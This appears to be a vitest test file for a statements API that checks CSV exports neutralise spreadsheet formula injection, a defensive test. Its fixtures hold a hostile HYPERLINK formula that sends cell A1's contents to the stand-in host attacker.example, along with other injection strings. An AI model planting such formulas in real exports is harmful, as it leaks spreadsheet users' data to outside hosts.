import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';

import { closeMonth } from '../../../src/institution/statements/closing.js';
import { useTestContext } from '../../support/context.js';
import { givenContract, GUARANTEED_REVENUE } from '../../support/contracts.js';
import { CPF, installment, submitAndProcess } from '../../support/installments.js';
import { givenInstitution } from '../../support/tenants.js';

const t = useTestContext();

const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Ana")';
const IDS = ['+CSV1', '-2+3', '@SUM(1+1)', '\tTAB1', '\rCR1'];
let gestao: Awaited<ReturnType<typeof givenInstitution>>;
let garantida: Awaited<ReturnType<typeof givenInstitution>>;

/** Items that the institution settled itself, named by the student, so each appears in every statement. */
const hostile = (idParcela: string) =>
  installment({
    idParcela,
    responsavelFinanceiroDocumento: CPF.ana,
    valorBoleto: '1000.00',
    dataVencimento: '2026-03-10T00:00:00',
    situacaoBaixa: 'PAGA',
    pagamento: { valorRecebido: '1000.00', data: '2026-03-09T10:00:00' },
    itensFatura: [{ alunoNome: HYPERLINK }],
  });

async function csvText(path: string, headers: Record<string, string>) {
  const res = await request(t.app)
    .get(path)
    .set({ ...headers, Accept: 'text/csv' });
  expect(res.status).toBe(200);
  return res.text;
}

beforeAll(async () => {
  gestao = await givenInstitution(t.ctx, 'Faculdade Gestão');
  garantida = await givenInstitution(t.ctx, 'Universidade Garantida');
  await givenContract(t.ctx, gestao.id, { commission: '10' });
  await givenContract(t.ctx, garantida.id, GUARANTEED_REVENUE);
  t.clock.set('2026-03-01T15:00:00Z');
  await submitAndProcess(t, gestao.headers, IDS.map(hostile));
  await submitAndProcess(
    t,
    garantida.headers,
    IDS.map((id) => ({ ...hostile(id), situacaoBaixa: 'ABERTA', pagamento: undefined })),
  );
  t.clock.set('2026-04-01T03:00:00Z');
  await closeMonth(t.ctx.db, garantida.id, '2026-03-01', t.clock.now(), { actor: 'cli' });
});

describe('statements as CSV never carry a live spreadsheet formula', () => {
  it.each([
    ['management', '/v1/extrato/gestao', () => gestao],
    ['assignments', '/v1/extrato/cessoes_parcelas', () => garantida],
    ['guaranteed revenue', '/v1/extrato/receita_garantida', () => garantida],
  ])('the %s statement writes names and ids starting with = + - @ TAB CR behind a quote', async (_, path, tenant) => {
    const text = await csvText(path, tenant().headers);
    expect(text.startsWith('\uFEFF')).toBe(true);
    // The name has quotes and so is quoted as a whole, its own quotes doubled, after the neutralising '.
    expect(text).toContain(`;"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Ana"")";`);
    for (const id of ["'+CSV1", "'-2+3", "'@SUM(1+1)", "'\tTAB1", `"'\rCR1"`]) expect(text).toContain(`;${id};`);
    // Every cell but the computed amounts (a negative one is a number, not a formula).
    const cells = text.split(/;|\r\n/).filter((c) => !/^-\d+,\d\d$/.test(c));
    for (const dangerous of ['+', '-', '@', '=', '\t', '\r'])
      expect(cells.filter((c) => c.startsWith(dangerous) || c.startsWith(`"${dangerous}`))).toEqual([]);
  });

  it('a computed negative amount stays a number with a decimal comma', async () => {
    const text = await csvText('/v1/extrato/gestao', gestao.headers);
    const [header, first] = text.replace(/^\uFEFF/, '').split('\r\n');
    const row = Object.fromEntries(first!.split(';').map((v, i) => [header!.split(';')[i], v]));
    // Settled at the institution: the institution holds the money and owes the commission.
    expect(row).toMatchObject({ valor_repasse: '-100,00', comissao_valor: '100,00', comissao_percentual: '10,00' });
  });
});
